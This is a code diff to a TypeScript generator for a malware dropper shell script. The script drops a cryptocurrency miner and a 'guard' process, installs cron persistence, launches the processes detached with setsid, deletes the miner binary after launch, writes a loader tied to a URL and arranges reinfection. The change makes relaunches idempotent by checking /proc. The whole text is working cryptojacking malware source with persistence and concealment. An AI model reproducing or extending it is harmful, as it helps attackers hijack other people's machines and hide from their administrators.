@@ -22,13 +22,17 @@ export function dropperScript(infection: Infection): string {
   );
   const folders = [...new Set(paths.map((path) => posix.dirname(path)))];
   return [
-    'umask 022; cd /',
+    'umask 022; cd /; last=1',
     `mkdir -p ${folders.map(quote).join(' ')}`,
     ...(miner === null ? [] : [image(miner.path, minerPayload)]),
     ...(guard === null ? [] : [image(guard.path, guardPayload)]),
     ...cron.spools.flatMap((spool) => cron.lines.map((line) => cronLine(spool, line))),
-    ...(guard === null ? [] : [started(quote(guard.path), guardProgram(infection, guard), 'GUARD')]),
-    ...(miner !== null && guard === null ? [started(minerCommand(miner), minerProgram(miner), 'MINER')] : []),
+    ...(guard === null
+      ? []
+      : [started(guard.path, quote(guard.path), guardProgram(infection, guard), 'GUARD')]),
+    ...(miner !== null && guard === null
+      ? [started(miner.path, minerCommand(miner), minerProgram(miner), 'MINER')]
+      : []),
     ...(miner?.deleted === true && guard === null ? [removedOnceRunning(miner.path)] : []),
     ...(loader === null ? [] : [loaderFile(loader.path, loaderText(infection, loaderUrl))]),
     ...(reinfect === null ? [] : [waiting(infection, reinfect)]),
@@ -52,21 +56,23 @@ function cronLine(spool: string, line: string): string {
   return `[ -e ${file} ] || (umask 077; : >${file}); grep -qxF ${text} ${file} || { printf '%s\\n' ${text} >>${file}; touch ${quote(posix.dirname(spool))}; }`;
 }
 
-function started(words: string, program: string, delimiter: string): string {
-  return `(exec setsid ${words} >/dev/null 2>&1 <<'${delimiter}'
+/** Once only, also when the script comes again every five minutes. `$last` is what was started last. */
+function started(path: string, words: string, program: string, delimiter: string): string {
+  return `ls -l /proc/[0-9]*/exe 2>/dev/null | grep -qF -- ${quote(`-> ${path}`)} || {
+(exec setsid ${words} >/dev/null 2>&1 <<'${delimiter}'
 ${program}${delimiter}
-) & last=$!`;
+) & last=$!; }`;
 }
 
 function removedOnceRunning(path: string): string {
-  return `until [ /proc/$last/exe -ef ${quote(path)} ] || ! kill -0 $last; do sleep 0.02; done; rm -f ${quote(path)}`;
+  return `[ $last = 1 ] || until [ /proc/$last/exe -ef ${quote(path)} ] || ! kill -0 $last; do sleep 0.02; done; rm -f ${quote(path)}`;
 }
 
 function loaderFile(path: string, text: string): string {
   const target = quote(path);
   return `[ -e ${target} ] || cat >${target} <<'LOADER'
 ${text}LOADER
-(exec setsid sh ${target} >/dev/null 2>&1 </dev/null) &`;
+printf '%s' ${target} | grep -qsF -f - /proc/[0-9]*/cmdline || { (exec setsid sh ${target} >/dev/null 2>&1 </dev/null) & }`;
 }
 
 /** Waits for the end of what was started last (guard, else miner), and carries the dropper so that no name shows. */
